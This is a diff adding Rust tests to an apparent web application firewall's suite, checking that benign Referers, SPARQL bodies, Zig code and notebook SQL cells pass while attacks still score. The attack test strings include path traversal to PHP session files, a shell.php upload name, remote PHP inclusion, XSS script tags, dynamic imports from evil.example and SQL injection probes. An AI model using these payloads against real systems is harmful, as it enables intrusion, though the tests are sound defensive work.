@@ -851,6 +851,9 @@ fn holdout4_shapes_pass_and_their_attacks_still_score() {
     }
     let ua = |u: &str| waf.outcome(&waf.inspect_head(&get("/products/1", &[("user-agent", u)]))).blocked;
     assert!(!ua("python-httpx/0.27.0"));
+    assert!(!ua("minizinc-python/0.9.0 httpx/0.27.0"));
+    assert!(ua("httpx/1.6.0"));
+    assert!(ua("Mozilla/5.0 httpx"));
     assert!(ua("httpx"));
     assert!(ua("projectdiscovery httpx v1.6"));
 }
@@ -5396,6 +5399,75 @@ fn a_spreadsheet_formulas_and_or_calls_are_no_sql_keywords() {
     ] {
         for o in as_field_and_query(&waf, q) {
             assert!(rule(&o, 4214).is_some(), "{q}: {o:?}");
+        }
+    }
+}
+
+#[test]
+fn holdout63_to_65_headers_types_and_snippets_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+    let head = |headers: &[(&str, &str)]| waf.outcome(&waf.inspect_head(&get("/api/orders", headers)));
+
+    // The Referer names the page a browser came from: a PHP page or a path segment named
+    // `sess_…` on a web server is no upload of a script or session file (3307). A file name
+    // still is, and so is a PHP script's URL in an argument (a remote inclusion).
+    for referer in
+        ["https://shop.example/checkout.php", "https://app.example/octave/sess_31", "http://x.example/app.php/orders"]
+    {
+        let o = head(&[("referer", referer)]);
+        assert!(!o.blocked && rule(&o, 3307).is_none(), "{referer}: {o:?}");
+    }
+    for (name, value) in [
+        ("referer", "https://shop.example/../../tmp/sess_abc123"),
+        ("referer", "/var/lib/php/sessions/sess_abc123"),
+        ("x-filename", "shell.php"),
+        ("x-filename", "sess_d8ew88tqmabdcokhumchy8htqm"),
+    ] {
+        let o = head(&[(name, value)]);
+        assert!(o.blocked && rule(&o, 3307).is_some(), "{name}: {value}: {o:?}");
+    }
+    let o = outcome(&waf, "/module/ajax?src=https://[2001:db8::29c8]/gecko.php");
+    assert!(o.blocked && rule(&o, 3307).is_some(), "{o:?}");
+
+    // SPARQL 1.1 Protocol's registered types are read as text: a query passes, a script in it
+    // still scores (1010 no longer counts).
+    let query = "PREFIX foaf: <http://xmlns.com/foaf/0.1/>\nSELECT ?name (COUNT(?paper) AS ?papers)\nWHERE {\n  ?paper <http://purl.org/dc/terms/creator> ?person .\n  ?person foaf:name ?name .\n}\nGROUP BY ?name\nORDER BY DESC(?papers)\nLIMIT 20\n";
+    let o = post("/repositories/scholarly", "application/sparql-query", query, &waf);
+    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
+    let update = "PREFIX ex: <https://data.example/ns#>\nINSERT DATA { GRAPH <https://data.example/g> { ex:s1 ex:status \"archived\" . } }\n";
+    let o = post("/repositories/scholarly/statements", "application/sparql-update", update, &waf);
+    assert!(!o.blocked && rule(&o, 1010).is_none(), "{o:?}");
+    let o = post(
+        "/repositories/x",
+        "application/sparql-query",
+        "# <script>alert(1)</script>\nSELECT * WHERE { ?s ?p ?o }",
+        &waf,
+    );
+    assert!(blocked_category(&o, Category::Xss), "{o:?}");
+    let o = post("/repositories/x", "application/x-sparql-results", "x", &waf);
+    assert!(rule(&o, 1010).is_some(), "{o:?}");
+
+    // Zig's builtin `@import("std")` is no dynamic JavaScript import (4106); `import("…")` is.
+    let zig = "const std = @import(\"std\");\n\npub fn main() !void {\n    const stdout = std.io.getStdOut().writer();\n    try stdout.print(\"{d}\\n\", .{42});\n}\n";
+    for o in as_field_and_query(&waf, zig) {
+        assert!(!o.blocked && rule(&o, 4106).is_none(), "{o:?}");
+    }
+    for q in ["import('https://evil.example/x.js')", "x=1;import(\"//evil.example/p.js\")", "$import('a')"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(rule(&o, 4106).is_some(), "{q}: {o:?}");
+        }
+    }
+
+    // A notebook cell's `%%sql` magic runs the query under it: `GROUP BY 1, 2` of a whole query
+    // is no column enumeration (4213); after data, or commented out, it is.
+    let cell = "%%sql\nSELECT date_trunc('month', signup_date) AS cohort, plan, count(*) AS n\nFROM analytics.customers\nWHERE signup_date >= '2024-01-01'\n  AND country <> 'US'\nGROUP BY 1, 2\nORDER BY 1, 2;";
+    for o in as_field_and_query(&waf, cell) {
+        assert!(!o.blocked && rule(&o, 4213).is_none(), "{o:?}");
+    }
+    for q in ["%%sql\n1 order by 5--", "1 group by 1,2--", "%sql x' order by 3#"] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked, "{q}: {o:?}");
         }
     }
 }
